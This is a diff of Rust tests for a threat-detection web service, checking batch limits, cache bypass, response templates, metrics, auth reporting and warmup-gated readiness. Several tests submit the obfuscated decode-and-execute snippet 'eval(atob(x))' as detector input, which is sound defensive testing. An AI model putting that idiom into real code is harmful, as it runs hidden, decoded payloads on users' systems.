+        assert_eq!(response.headers().get("Retry-After").unwrap(), "1");
+        let body: serde_json::Value = read_body_json(response).await;
+        assert_eq!((&body["running"], &body["queued"]), (&serde_json::json!(1), &serde_json::json!(0)));
+        assert_eq!(state.lock_stats().total_detections, 0);
+
+        drop(running);
+        assert_eq!(call_service(&app, batch()).await.status(), 200);
+        let stats: serde_json::Value = read_body_json(call_service(&app, TestRequest::get().uri("/api/stats").to_request()).await).await;
+        assert_eq!(stats["batch_jobs"]["rejected"], 1);
+        assert_eq!(stats["batch_jobs"]["running"], 0);
+    }
+
+    #[actix_web::test]
+    async fn content_matching_the_bypass_pattern_is_never_cached() {
+        let state = state(Settings { cache_bypass_pattern: Some("nonce=[0-9a-f]+".to_string()), fuzzy_cache: true, ..settings() });
+        let app = app(&state).await;
+        let unique = "https://example.org/callback?nonce=9f86d081884c7d65";
+
+        for _ in 0..2 {
+            let body: serde_json::Value = read_body_json(call_service(&app, detect("url", unique).to_request()).await).await;
+            assert_eq!(body["cached"], false);
+        }
+        assert_eq!(state.lock_cache().len(), 0);
+        let stats: serde_json::Value = read_body_json(call_service(&app, TestRequest::get().uri("/api/stats").to_request()).await).await;
+        assert_eq!((&stats["cache_bypassed"], &stats["cache_hits"]), (&serde_json::json!(2), &serde_json::json!(0)));
+
+        // Anything else is cached as usual
+        let reusable = "https://example.org/callback?state=ready";
+        call_service(&app, detect("url", reusable).to_request()).await;
+        let again: serde_json::Value = read_body_json(call_service(&app, detect("url", reusable).to_request()).await).await;
+        assert_eq!(again["cached"], true);
+
+        let invalid = Settings { cache_bypass_pattern: Some("nonce=[0-9".to_string()), ..settings() };
+        assert!(invalid.problems().iter().any(|p| p.starts_with("cache_bypass_pattern: ")), "{:?}", invalid.problems());
+    }
+
+    #[actix_web::test]
+    async fn a_response_template_renames_is_threat_to_blocked_for_its_type_only() {
+        let url_template = template::ResponseTemplate {
+            rename: HashMap::from([("is_threat".to_string(), "blocked".to_string())]),
+            omit: vec!["reasons".to_string()],
+        };
+        let url = "https://vendor.example.com/invoice";
+        let forced = config::VerdictOverride { is_threat: true, severity: "high".to_string(), confidence: None };
+        let app = app(&state(Settings {
+            response_templates: HashMap::from([("url".to_string(), url_template)]),
+            overrides: HashMap::from([(hash_string(url), forced)]),
+            ..settings()
+        }))
+        .await;
+
+        let body: serde_json::Value = read_body_json(call_service(&app, detect("url", url).to_request()).await).await;
+        assert_eq!(body["blocked"], true);
+        assert!(body.get("is_threat").is_none() && body.get("reasons").is_none(), "{}", body);
+        assert_eq!(body["threat_type"], "phishing");
+
+        let code: serde_json::Value = read_body_json(call_service(&app, detect("code", "eval(atob(x))").to_request()).await).await;
+        assert!(code.get("is_threat").is_some() && code.get("blocked").is_none(), "{}", code);
+
+        let batch = serde_json::json!({ "threats": [{ "threat_type": "url", "content": url }, { "threat_type": "code", "content": "eval(atob(x))" }] });
+        let body: serde_json::Value = read_body_json(call_service(&app, TestRequest::post().uri("/api/detect/batch").set_json(batch).to_request()).await).await;
+        assert_eq!((&body["results"][0]["blocked"], &body["results"][1]["blocked"]), (&serde_json::json!(true), &serde_json::Value::Null));
+        assert!(body["results"][1]["is_threat"].is_boolean());
+
+        let raw = TestRequest::post().uri("/api/detect/raw?threat_type=url").insert_header(("Content-Type", "text/plain")).set_payload(url);
+        let body: serde_json::Value = read_body_json(call_service(&app, raw.to_request()).await).await;
+        assert_eq!(body["blocked"], true);
+    }
+
+    #[actix_web::test]
+    async fn scrapes_report_queue_depths_with_fine_grained_metrics() {
+        let state = state(Settings { fine_grained_metrics: true, ..settings() });
+        let app = app(&state).await;
+        let body = call_service(&app, TestRequest::get().uri("/metrics").to_request()).await;
+        let body = String::from_utf8(actix_web::body::to_bytes(body.into_body()).await.ok().unwrap().to_vec()).unwrap();
+        for queue in ["batch_slots", "batch_jobs", "audit"] {
+            assert!(body.contains(&format!("queue_depth{{queue=\"{}\"}} 0", queue)), "{}", queue);
+        }
+    }
+
+    #[actix_web::test]
+    async fn capabilities_report_the_auth_in_force() {
+        const KEY: &str = "k-client-0123";
+        for (keys, modes) in [(vec![], serde_json::json!(["none"])), (vec![KEY.to_string()], serde_json::json!(["bearer", "x-api-key"]))] {
+            let state = state(Settings { api_keys: keys, ..settings() });
+            let app = app(&state).await;
+            let req = TestRequest::get().uri("/api/capabilities").insert_header(("X-Api-Key", KEY));
+            let capabilities: serde_json::Value = read_body_json(call_service(&app, req.to_request()).await).await;
+            assert_eq!(capabilities["auth"]["modes"], modes);
+        }
+    }
+
+    #[actix_web::test]
+    async fn ready_is_503_until_the_warmup_canaries_pass() {
+        let canary = testvectors::case_body("url_phishing").unwrap();
+        let wrong = config::VerdictOverride { is_threat: false, severity: "low".to_string(), confidence: None };
+        let warming = state(Settings { warmup_rounds: 2, ..settings() });
+        let broken = state(Settings { warmup_rounds: 1, overrides: HashMap::from([(hash_string(canary["content"].as_str().unwrap()), wrong)]), ..settings() });
+        let unwarmed = state(settings());
+        let (app, broken_app, unwarmed_app) = (app(&warming).await, app(&broken).await, app(&unwarmed).await);
+        let probe = || TestRequest::get().uri("/api/ready").to_request();
+        let response = call_service(&app, probe()).await;
+        assert_eq!(response.status(), 503);
+        let body: serde_json::Value = read_body_json(response).await;
+        assert_eq!((&body["ready"], &body["warmup"]["state"]), (&serde_json::json!(false), &serde_json::json!("running")));
+
+        warm_up(warming.clone()).await;
+        let response = call_service(&app, probe()).await;
+        assert_eq!(response.status(), 200);
+        let body: serde_json::Value = read_body_json(response).await;
+        assert_eq!(body["ready"], true);
+        assert!(matches!(warming.warmup.status(), warmup::Status::Passed { rounds: 2, .. }));
+
+        // A canary with the wrong verdict keeps the instance out of rotation
+        warm_up(broken.clone()).await;
+        let response = call_service(&broken_app, probe()).await;
+        assert_eq!(response.status(), 503);
+        let body: serde_json::Value = read_body_json(response).await;
+        assert_eq!(body["warmup"]["state"], "failed");
+        assert!(body["warmup"]["failures"][0].as_str().unwrap().starts_with("url_phishing: expected threat, got no threat"), "{}", body);
+
+        // Without warmup rounds there is nothing to wait for
+        let response = call_service(&unwarmed_app, probe()).await;
+        assert_eq!(response.status(), 200);
+    }
 }